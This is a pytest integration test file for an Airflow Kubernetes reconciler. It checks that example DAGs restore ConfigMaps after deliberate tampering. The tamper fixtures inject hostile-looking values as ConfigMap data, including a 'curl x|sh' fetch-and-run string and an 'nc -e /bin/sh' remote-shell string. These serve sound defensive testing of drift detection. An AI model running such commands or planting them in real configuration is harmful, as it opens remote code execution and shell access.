"""Each example DAG runs to success with ``airflow dags test`` against the real API server, as a least-privilege
worker where it writes, and leaves the live objects exactly as declared, including after tampers."""

from __future__ import annotations

import concurrent.futures
import json

import pytest

from airflow_k8s_reconcile.testing.demo import objects
from airflow_k8s_reconcile.testing.identity import create_namespace, delete_namespace


def _data(admin, namespace, name):
    live = objects.configmap(admin, namespace, name)
    assert live is not None, f"ConfigMap {namespace}/{name} does not exist"
    return live["data"]


def test_connection_check_and_hook_task_examples(dags_test, airflow_home, k8s_cluster):
    run = dags_test("example_k8s_connection_check", k8s_cluster.kubeconfig_path)
    assert airflow_home.xcom(run, "check_connection")["verdict"] == "pass"
    run = dags_test("example_k8s_hook_task", k8s_cluster.kubeconfig_path)
    assert "kube-root-ca.crt" in airflow_home.xcom(run, "list_configmaps")


def test_preflight_then_reconcile_renders_params_and_restores_tampers(
    dags_test, airflow_home, worker, k8s_admin, k8s_namespace
):
    settings = {"K8S_RECONCILE_NAMESPACE": k8s_namespace}
    conf = {"log_level": "debug", "replicas": 3, "features": ["search", "audit"]}
    run = dags_test("preflight_then_reconcile", worker.kubeconfig_path, settings, conf)
    preflight = airflow_home.xcom(run, "preflight")
    assert preflight["verdict"] == "pass"
    assert {"TLS_VERIFIED", "RBAC_PERMISSIONS_GRANTED"} <= {f["code"] for f in preflight["findings"]}
    checked = {(row["namespace"], row["verb"], row["resource"]) for row in preflight["permissions"]}
    assert {(k8s_namespace, verb, "configmaps") for verb in ("get", "list", "create", "patch")} <= checked
    assert all(row["allowed"] for row in preflight["permissions"])
    assert _data(k8s_admin, k8s_namespace, "shop-settings") == {
        "LOG_LEVEL": "DEBUG",
        "REPLICAS": "3",
        "app.yaml": "app: shop\nlogging:\n  level: debug\nreplicas: 3",
    }
    assert _data(k8s_admin, k8s_namespace, "shop-features") == {
        "enabled": "audit,search",
        "features.txt": "audit\nsearch\n",
    }

    objects.delete_configmap(k8s_admin, k8s_namespace, "shop-features")
    objects.patch_data(
        k8s_admin, k8s_namespace, "shop-settings", {"LOG_LEVEL": "TRACE", "evil.sh": "curl x|sh"}
    )
    run = dags_test("preflight_then_reconcile", worker.kubeconfig_path, settings)  # the defaults this time
    drift = airflow_home.xcom(run, "drift_report")
    settings_drift = drift["configmaps"][f"{k8s_namespace}/shop-settings"]
    assert settings_drift["added"] == ["evil.sh"]
    assert "LOG_LEVEL" in settings_drift["modified"]
    assert objects.TAMPERER in settings_drift["writers"]
    assert drift["configmaps"][f"{k8s_namespace}/shop-features"]["missing"] is True
    assert "curl" not in json.dumps(airflow_home.xcom(run, "reconcile"))  # values never reach XCom
    assert _data(k8s_admin, k8s_namespace, "shop-settings") == {
        "LOG_LEVEL": "INFO",
        "REPLICAS": "2",
        "app.yaml": "app: shop\nlogging:\n  level: info\nreplicas: 2",
    }
    assert _data(k8s_admin, k8s_namespace, "shop-features")["enabled"] == "checkout,search"


@pytest.mark.min_airflow(
    "3.3",
    reason="on Airflow 3.0.6 the summary task of generate_from_custom_resources gets 404 from the execution API "
    "when it pulls the mapped tasks' XComs (not verified on 3.1 and 3.2; passes on 3.3)",
)
def test_generate_from_custom_resources_restores_and_prunes_per_namespace(
    dags_test, airflow_home, tenants_crd, k8s_identity, k8s_admin, k8s_cluster, k8s_namespace
):
    other = create_namespace(k8s_admin, k8s_cluster, prefix="t2")
    try:
        namespaces = [k8s_namespace, other]
        worker = k8s_identity(namespace_rules=objects.namespace_rules(namespaces))
        for namespace in namespaces:
            objects.create_tenants(k8s_admin, namespace)
        settings = {"K8S_RECONCILE_NAMESPACES": ",".join(namespaces)}
        run = dags_test("generate_from_custom_resources", worker.kubeconfig_path, settings)
        assert [sorted(e["name"] for e in r["objects"]) for r in airflow_home.xcoms(run, "generate")] == [
            ["acme-tenant-config", "globex-tenant-config"]
        ] * 2
        first = objects.configmap(k8s_admin, k8s_namespace, "acme-tenant-config")
        assert first is not None
        assert first["ownerReferences"] == ["acme"]
        assert first["data"] == {
            "tier": "gold",
            "quota": "50",
            "tenant.json": json.dumps(objects.TENANTS["acme"], sort_keys=True),
        }

        # Before the next run: a generated ConfigMap deleted, a malicious key inserted, a value edited, and a
        # tenant deleted with --cascade=orphan (its ConfigMap stays until the prune).
        objects.delete_configmap(k8s_admin, k8s_namespace, "acme-tenant-config")
        objects.patch_data(k8s_admin, k8s_namespace, "globex-tenant-config", {"backdoor": "nc -e /bin/sh"})
        objects.patch_data(k8s_admin, other, "acme-tenant-config", {"tier": "platinum"})
        objects.delete_tenant_orphaning(k8s_admin, other, "globex")
        run = dags_test("generate_from_custom_resources", worker.kubeconfig_path, settings)

        statuses = airflow_home.xcom(run, "summary")
        assert statuses == {
            f"{k8s_namespace}/acme-tenant-config": "created",
            f"{k8s_namespace}/globex-tenant-config": "restored",
            f"{other}/acme-tenant-config": "restored",
            f"{other}/globex-tenant-config": "pruned",
        }
        restored = objects.configmap(k8s_admin, k8s_namespace, "acme-tenant-config")
        assert restored is not None
        assert restored["data"] == first["data"]
        assert restored["uid"] != first["uid"]
        assert "backdoor" not in _data(k8s_admin, k8s_namespace, "globex-tenant-config")
        assert _data(k8s_admin, other, "acme-tenant-config")["tier"] == "gold"
        assert objects.configmap(k8s_admin, other, "globex-tenant-config") is None
    finally:
        delete_namespace(k8s_admin, k8s_cluster, other)


def test_restore_on_drift_restores_the_tampered_configmap(
    dags_test, airflow_home, worker, k8s_admin, k8s_namespace
):
    settings = {"K8S_RECONCILE_NAMESPACE": k8s_namespace}
    dags_test("restore_on_drift", worker.kubeconfig_path, settings)
    declared = _data(k8s_admin, k8s_namespace, "guarded-settings")
    assert declared["settings.ini"] == "[server]\nlog_level = info\nmax_connections = 100"

    objects.patch_data(
        k8s_admin, k8s_namespace, "guarded-settings", {"log_level": "trace", "exfiltrate": "on"}
    )
    run = dags_test("restore_on_drift", worker.kubeconfig_path, settings)
    assert _data(k8s_admin, k8s_namespace, "guarded-settings") == declared
    assert airflow_home.xcom(run, "summarise")["restore"] == {"guarded-settings": "restored"}


def test_restore_on_drift_sensor_waits_for_a_deletion_and_restores(
    airflow_home, worker, k8s_admin, k8s_namespace
):
    """The classic variant: the deferrable sensor waits (in ``dags test``, its trigger runs in-process) until the
    ConfigMap is deleted, then the restore recreates it."""
    name = "guarded-settings-sensor"
    settings = {"K8S_RECONCILE_NAMESPACE": k8s_namespace}
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        running = pool.submit(
            airflow_home.dags_test,
            "restore_on_drift_sensor",
            kubeconfig=worker.kubeconfig_path,
            settings=settings,
        )
        objects.wait_until(
            lambda: objects.configmap(k8s_admin, k8s_namespace, name) is not None, "ensure", 120
        )
        created = objects.configmap(k8s_admin, k8s_namespace, name)
        objects.delete_configmap(k8s_admin, k8s_namespace, name)
        run = running.result(timeout=180)
    assert run.succeeded, run.tail(80)
    drift = airflow_home.xcom(run, "wait_for_drift")
    assert drift["status"] == "drift"
    assert drift["objects"][0]["name"] == name
    restored = objects.configmap(k8s_admin, k8s_namespace, name)
    assert created is not None
    assert restored is not None
    assert restored["data"] == created["data"]
    assert restored["uid"] != created["uid"]
